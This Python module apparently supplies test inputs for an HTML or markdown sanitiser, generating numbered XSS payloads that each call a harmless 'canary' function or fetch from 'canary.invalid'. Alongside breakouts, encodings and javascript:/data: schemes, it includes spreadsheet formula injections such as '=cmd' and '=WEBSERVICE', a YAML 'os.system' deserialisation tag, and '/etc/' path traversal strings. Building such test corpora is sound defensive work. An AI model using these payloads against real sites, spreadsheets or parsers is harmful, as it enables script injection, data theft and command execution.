"""Texts that would run a script if any page took them for markup: each calls `canary` with its own number, or asks `canary.invalid` for it."""

import base64
from itertools import cycle

CALL = "§"
HOST = "canary.invalid"
SCRIPT = f"<script>{CALL}</script>"
IMAGE = f"<img src=x onerror={CALL}>"

EVENTS = "mouseover focus click load error toggle pointerenter animationstart begin beforematch"
ELEMENTS = "img svg body input a details video audio iframe object embed marquee select math x-y"
QUOTING = ['<{e} on{v}="§">', "<{e} on{v}='§'>", "<{e} on{v}=§>", "<{e}/on{v}=§//", "<{e}\ton{v} = §>", "<{e} src=x ON{v}=`§`>", "<{e} x='>' on{v}=§ y>"]
HANDLERS = [quoting.format(e=element, v=event) for (element, event), quoting in zip([(e, v) for e in ELEMENTS.split() for v in EVENTS.split()][::2], cycle(QUOTING))]

TAGS = [
    SCRIPT, "<SCRIPT>§</SCRIPT>", "<ScRiPt >§</sCrIpT >", f"<script src=//{HOST}/§></script>", f'<script src="https://{HOST}/§"></script>', "<script\t>§</script\t>", "<script/x>§</script>",
    IMAGE, "<IMG SRC=x ONERROR=§>", f"<img src=//{HOST}/§>", f"<img srcset='https://{HOST}/§ 1x'>", f"<iframe src=//{HOST}/§></iframe>", "<iframe srcdoc='<script>parent.§</script>'></iframe>",
    "<iframe src=javascript:parent.§></iframe>", "<object data=javascript:§>", f"<object data=//{HOST}/§>", f"<embed src=//{HOST}/§>", "<embed src=javascript:§>", f"<base href=//{HOST}/§/>",
    f"<meta http-equiv=refresh content='0;url=https://{HOST}/§'>", "<meta http-equiv=refresh content='0;javascript:§'>", f"<link rel=stylesheet href=//{HOST}/§>", f"<link rel=prefetch href=//{HOST}/§>",
    f"<form action=//{HOST}/§><button autofocus>x</button></form>", "<form action=javascript:§><input type=submit autofocus>", "<button formaction=javascript:§>x</button>", "<isindex action=javascript:§ type=image>",
    f"<video src=//{HOST}/§ autoplay>", "<video><source onerror=§></video>", "<audio src=x onerror=§>", "<details open ontoggle=§>x</details>", "<input autofocus onfocus=§>", "<select autofocus onfocus=§>",
    "<textarea autofocus onfocus=§></textarea>", "<body onpageshow=§>", "<xss id=x tabindex=1 autofocus onfocus=§></xss>", "<div contenteditable autofocus onfocus=§>", "<dialog open onclose=§>", "<template><script>§</script></template>",
    "<quiz-question onclick=§>x</quiz-question>", "<course-results onfocus=§ tabindex=0 autofocus>", "<portal src=javascript:§>", "<applet code=javascript:§>", "<frameset onload=§>", "<keygen autofocus onfocus=§>",
]

BREAKOUTS = [
    '" onmouseover="§', "' onmouseover='§", '" onfocus="§" autofocus tabindex="0', "' onfocus='§' autofocus tabindex='0", " onfocus=§ autofocus tabindex=0 ", "x onerror=§", "` onerror=`§", "` onmouseover=§ x=`",
    f'">{SCRIPT}', f"'>{SCRIPT}", f'"/>{IMAGE}', f"'/>{IMAGE}", f'"></a>{IMAGE}', f"'></option></select>{IMAGE}", f'"></textarea>{IMAGE}', f"</title>{SCRIPT}", f"</style>{SCRIPT}", f"</script>{SCRIPT}", f"</noscript>{IMAGE}",
    f"</template>{IMAGE}", f"</textarea>{IMAGE}", f"</legend></fieldset>{IMAGE}", f"</td></tr></table>{IMAGE}", f"</option>{IMAGE}", f"</xmp>{IMAGE}", f"</plaintext>{IMAGE}", f"</iframe>{IMAGE}", '\\" onload=§ x=\\"', "\\' onload=§ x=\\'",
    "&quot; onload=&quot;§", "&#34; onload=&#34;§", "&#x22;&gt;<img src=x onerror=§>", '"\u0301 onload="§', "'\u0301 onload='§", '"\u200d onload="§', '"\ufe0f onload="§', ">\u0338<script>§</script>", "<\u0338script>§</\u0338script>",
    '" style="animation:x" onanimationstart="§', '" xlink:href="javascript:§', '" srcdoc="<script>parent.§</script>', '" formaction="javascript:§', '"onclick=§//', '" data-x="{{x}}" onclick="§', '"\tonclick="§', '"\x0conclick="§', '"/onclick="§',
]

ENCODED = [
    "&lt;script&gt;§&lt;/script&gt;", "&#60;script&#62;§&#60;/script&#62;", "&#x3c;script&#x3e;§&#x3c;/script&#x3e;", "&#x3Cimg src=x onerror=§&#x3E", "&#0000060img src=x onerror=§&#0000062", "&LT;img src=x onerror=§&GT;", "&lt&#105mg src=x onerror=§&gt",
    "&amp;lt;script&amp;gt;§&amp;lt;/script&amp;gt;", "&amp;#60;script>§", "\\u003cscript\\u003e§\\u003c/script\\u003e", "\\x3cscript\\x3e§\\x3c/script\\x3e", "\\74script\\76§", "%3Cscript%3E§%3C/script%3E", "%253Cscript%253E§", "%u003Cscript%u003E§",
    "+ADw-script+AD4-§+ADw-/script+AD4-", "\uff1cscript\uff1e§\uff1c/script\uff1e", "\u2039script\u203a§", "\ufe64script\ufe65§\ufe64/script\ufe65", "\u3008script\u3009§", "<\u017fcript>§</\u017fcript>", "<scr\u0131pt>§</scr\u0131pt>", "<\uff53cript>§</\uff53cript>",
    "\u00bcscript\u00be§\u00bc/script\u00be", "\u013cimg src=x onerror=§\u013e", "&NewLine;<img src=x&Tab;onerror=§>", "&nvlt;img src=x onerror=§&nvgt;", "&#x80;<svg onload=§>", "&#xD800;<svg onload=§>", "&#0;<svg onload=§>", "&bne;<svg onload=§>",
]

BROKEN = [
    "<img src=x onerror=§//", "<img src=x onerror=§ ", "<<script>§//<</script>", "<script", "<script>§", "<script >§//", "<svg/onload=§", '<img """>' + SCRIPT + '">', "<scr<script>ipt>§</scr</script>ipt>", "<a href='", '<a href="javascript:§', "</p>" + SCRIPT, "< script>§</ script>",
    "<img/src=`x`onerror=§>", "<img src=x:x onerror=§;>", "<img \x0bsrc=x onerror=§>", "<svg><script>§<p>", "<x/ onclick=§>x", "<;onclick=§>", "<a/onmouseover[\x0b]=§>x", "<1 onclick=§>", "</x onclick=§>", "<p/=onclick=§>", "<b <script>§</script>0", "<table background=javascript:§>",
    "<plaintext>", "<xmp>" + IMAGE, "<textarea>" + IMAGE, "<select><style></select>" + IMAGE + "</style>", "<noembed><img title='</noembed><img src=x onerror=§>'>", "<image src=x onerror=§>", "<?xml-stylesheet href='javascript:§'?>", "<?php echo '§' ?>" + IMAGE,
]

COMMENTS = [
    "<!-- " + SCRIPT, "<!--><script>§</script>", "<!--->" + IMAGE, "<!-- --!>" + IMAGE, '<!--<img src="--><img src=x onerror=§//">', "--><script>§</script>", "--!><script>§</script>", "]]>" + SCRIPT, "<![CDATA[" + SCRIPT + "]]>", "<svg><![CDATA[><img src=x onerror=§>]]>",
    "<!DOCTYPE x [<!ENTITY y '§'>]>&y;", "<!ELEMENT " + IMAGE, "<!--[if gte IE 4]>" + SCRIPT + "<![endif]-->", "<comment><img src='</comment><img src=x onerror=§//'>", "<!--<script>", "<!--</script>", "<%<!--'%>" + SCRIPT, "<!`/*\"/*\\'/*\\\"/*--></Title/</Style/</Script/><svg/onload=§>",
]

FOREIGN = [
    "<svg onload=§>", "<svg><script>§</script></svg>", f"<svg><script href=//{HOST}/§ /></svg>", "<svg><script xlink:href=data:,§ /></svg>", "<svg><a xlink:href=javascript:§><text y=9>x</text></a></svg>", "<svg><animate onbegin=§ attributeName=x dur=1s>", "<svg><set onbegin=§ attributeName=x>",
    "<svg><a><animate attributeName=href values=javascript:§ /><text y=9>x</text></a>", f"<svg><use href=//{HOST}/§#x />", "<svg><use href='data:image/svg+xml,<svg id=x><script>§</script></svg>#x'/>", f"<svg><image href=//{HOST}/§ />", "<svg><foreignObject><iframe onload=§ />", "<svg><style><img src=x onerror=§></style>",
    "<svg><title><img src=x onerror=§></title>", "<svg><desc><script>§</script></desc>", "<svg><handler type=text/javascript>§</handler>", "<math href=javascript:§>x</math>", "<math><maction actiontype=statusline xlink:href=javascript:§>x</maction></math>", "<math><annotation-xml encoding=text/html><img src=x onerror=§>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=§&gt;'>", "<noscript><p title='</noscript><img src=x onerror=§>'>", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=§>", "<svg></p><style><a id='</style><img src=1 onerror=§>'>", "<svg><p><style><img src='</style><img src=x onerror=§//'>",
]

STYLES = [
    f"<style>@import'//{HOST}/§'</style>", f"<style>*{{background:url(//{HOST}/§)}}</style>", f"<div style=\"background:url(//{HOST}/§)\">x</div>", "<div style='width:expression(§)'>", "<div style='behavior:url(javascript:§)'>", "<style onload=§></style>", "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=§>",
    f"}} body {{ background: url(//{HOST}/§) }} x {{", f"#000; }} @import url(//{HOST}/§); x {{", "red;}</style><script>§</script>", f"x: url(//{HOST}/§)", "\\3c/style\\3e<script>§</script>",
]

TEMPLATES = [
    "{{constructor.constructor('§')()}}", "{{{body}}}", "{{{styles}}}", "{{{scripts}}}", "{{#modules}}x{{/modules}}", "{{>head}}", "{{<layout}}", "{{$assets}}" + SCRIPT + "{{/assets}}", "{{!", "{{=<% %>=}}", "{{/x}}", "}}{{{x", "{{&title}}", "${§}", "<%= § %>", "<%- §%>", "#{§}", "{% raw %}" + SCRIPT, "[[${§}]]", "@{§}", "{n}", "{name}{digits}{number}",
    "%(x)s%s%n$1$&$`", "\\1\\0$0", "{{'a'.constructor.prototype.charAt=[].join;$eval('x=§')}}", "<div ng-app ng-csp ng-focus=§ tabindex=0 autofocus>", "<div v-html=\"'<img src=x onerror=§>'\">", "<x :onclick=§ @click=§ v-on:click=§>",
]

ISLANDS = [
    f"</script>{SCRIPT}", f"</SCRIPT >{SCRIPT}", f"</script/x>{SCRIPT}", "</script\t>" + IMAGE, f"<!--<script>{SCRIPT}", "<script><!--<script>", '"};§;//', '"]);§;//', "';§;'", '\\";§;//', "\\';§;//", "`;§;`", "*/§/*", "\\\u2028§;//", "\u2028§;//", "\u2029§;//", "\u2028</script>" + SCRIPT, "\u0085§;//",
    '"}],"x":"' + SCRIPT, "\\u2028§", '"+§+"', "'-§-'", '"-§-"', "`-§-`", "${§}`", "__proto__", "constructor", "prototype", "toString", '{"__proto__":{"onerror":"§"}}', '"},"innerHTML":"<img src=x onerror=§>","y":{"', '\\u003cscript\\u003e§', "\\\\\\\";§;//", "//\u2028§", "<\\/script><script>§</script>",
]

SIGNS = [
    "\u202e" + SCRIPT, "\u2066" + IMAGE + "\u2069", "\u200f<svg onload=§>\u200e", "<scr\u202eipt>§", "\ufeff" + SCRIPT, "<\ufeffscript>§", "<script\u00a0>§</script>", "<img\u2003src=x\u2003onerror=§>", "<img\u3000src=x\u3000onerror=§>", "<\u00adscript>§", "<s\u200bcript>§</s\u200bcript>", "<\U000e0073cript>§", "\U0001f468\u200d" + IMAGE, "e\u0301\u0301\u0301" + SCRIPT, "\ufffd" + SCRIPT, "\ufffe" + SCRIPT, "\U0010ffff<svg onload=§>", "\U000e0001" + IMAGE,
]

CONTROLS = ["<scr\0ipt>§</scr\0ipt>", "<\0script>§", "<img src=x\0onerror=§>", "\0" + SCRIPT, "<img src=x onerror\0=§>", "<svg\x01onload=§>", "<svg\x0bonload=§>", "<svg\x0conload=§>", "<svg\x1fonload=§>", "<svg\x7fonload=§>", "\x1b]8;;javascript:§\x07x", "\x08" + IMAGE, "<img\rsrc=x\ronerror=§>", "<svg\nonload\n=\n§>", "\x9b<svg onload=§>"]

FIELDS = [
    "!!js/function 'function(){§}'", "!!python/object/apply:os.system ['§']", "*a", "&a §", "{a: §}", "[§]", "- §", "# §", "%YAML 1.3", "--- §", "? §", "| §", "> §", "@§", "a: §", "'", '"', "'' §", "\\", "!<tag:§> x", "<<: *x", "~", "yes", "=§", '=HYPERLINK("javascript:§";"x")', "=cmd|'/c §'!A1", "@SUM(§)", "+§", "-§", "\t=§", '"";=§', ";§;", f'=IMPORTXML("https://{HOST}/§";"//a")',
    f'=WEBSERVICE("https://{HOST}/§")', "%0A=§", "DDE(\"§\")", "<x>\t\"§\"",
]

SCHEMES = [
    "javascript:§", "JaVaScRiPt:§", " javascript:§", "\tjavascript:§", "java\tscript:§", "javascript :§", "\x01javascript:§", "\x1bjavascript:§", "java\x00script:§", "&#106;avascript:§", "&#x6A;avascript:§", "&#0000106avascript:§", "&#x6Aavascript:§", "java&Tab;script:§", "java&NewLine;script:§", "java&#9;script:§", "java&#x0D;script:§", "javascript&colon;§",
    "javascript&#58;§", "javascript&#x3A;§", "javascript&#0058;§", "%6Aavascript:§", "javascript%3A§", "\\javascript:§", "j\\avascript:§", "javascript\\:§", "javascript://%0A§", f"javascript://{HOST}/%0A§", f"javascript://{HOST}/%E2%80%A8§", "javascript:'/*'/*/§", "javascript:javascript:§", "javascript:void(§)", "JAVASCRIPT:§//https:", "vbscript:§", "VbScRiPt:§", "livescript:§", "mocha:§", "jscript:§",
    "data:text/html,<script>parent.§</script>", "data:text/html;charset=utf-8,%3Cscript%3E§%3C/script%3E", "DATA:text/html;base64,", "data:image/svg+xml,<svg onload=§>", "data:image/svg+xml;base64,", "data:text/javascript,§", "data:image/png,<script>§</script>", "data:,§", "da\tta:text/html,§", "data&colon;text/html,§", "feed:javascript:§", "feed:§", "xml:§", "svg:§", "view-source:javascript:§", "jar:javascript:§", "blob:https://x/§", "filesystem:https://x/§", "about:§", "file:///etc/§", "chrome://§",
    "res://§", "mhtml:https://x!§", "ws:§", "intent:§", "ms-excel:§", "x:§", f"//{HOST}/§", f"/\\{HOST}/§", f"\\\\{HOST}/§", f"/%09/{HOST}/§", f"\t//{HOST}/§", f"/\t/{HOST}/§", f"https:{HOST}/§", f"http:/{HOST}/§", f"HTTPS:\\\\{HOST}/§", "https:javascript:§", "http:javascript:§", "mailto:javascript:§", "tel:javascript:§", "https://x:y@exemple.invalid/?javascript:§", 'https://exemple.invalid/"onclick="§', "https://exemple.invalid/'onclick='§",
    "https://exemple.invalid/><script>§</script>", "https://exemple.invalid/&quot;onclick=&quot;§", "mailto:x@exemple.invalid?body=<script>§</script>", "#javascript:§", "#\"onclick=\"§", "?javascript:§", "./javascript:§", "javascript\uff1a§", "java\u200bscript:§", "\u202ejavascript:§", "jav\u0430script:§", "ja%0Avascript:§", "\ufeffjavascript:§", "\u00a0javascript:§", "\u0085javascript:§", "\u2028javascript:§", "../../../etc/§", "10-x.md#\"onclick=\"§",
]


def _numbered(texts: list[str]) -> list[str]:
    return [_aimed(text, f"{index + 1}") for index, text in enumerate(texts)]


def _aimed(text: str, number: str) -> str:
    if text.endswith(";base64,"):
        return text + base64.b64encode(f"<svg xmlns='http://www.w3.org/2000/svg' onload='canary({number})'/>".encode()).decode()
    return text.replace(f"{HOST}/{CALL}", f"{HOST}/{number}").replace(CALL, f"canary({number})")


_TEXTS = list(dict.fromkeys(HANDLERS + TAGS + BREAKOUTS + ENCODED + BROKEN + COMMENTS + FOREIGN + STYLES + TEMPLATES + ISLANDS + SIGNS + FIELDS + CONTROLS))
_ALL = _numbered(_TEXTS + SCHEMES)
TEXTS, ADDRESSES = _ALL[: len(_TEXTS)], _ALL[len(_TEXTS) :]
# Twice, for every other text is typed with backslashes.
HARMLESS = [
    text
    for text in [
        "Bonjour", "**gras**", "*pente*", "`code`", "[lien](https://exemple.invalid/)", "<https://exemple.invalid/>", "5 < 6 & 7", "# Titre", "> Citation", "- Point", "1. Point", "fin\\", "mot " * 150,
    ]
    for _ in range(2)
]
